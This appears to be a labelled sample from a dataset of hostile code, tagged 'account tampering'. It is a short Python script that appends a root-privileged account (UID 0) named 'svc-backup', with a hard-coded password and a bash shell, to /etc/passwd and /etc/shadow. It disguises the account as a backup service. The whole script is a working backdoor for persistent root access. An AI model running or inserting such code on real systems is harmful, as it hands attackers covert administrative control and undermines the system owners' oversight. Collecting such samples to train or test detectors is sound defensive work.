# class: account tampering; style: tidy
import crypt

USER = "svc-backup"
HASH = crypt.crypt("Passw0rd!", crypt.mksalt(crypt.METHOD_SHA512))

with open("/etc/passwd", "a", encoding="utf-8") as passwd:
    passwd.write(f"{USER}:x:0:0:backup service:/root:/bin/bash\n")
with open("/etc/shadow", "a", encoding="utf-8") as shadow:
    shadow.write(f"{USER}:{HASH}:19700:0:99999:7:::\n")
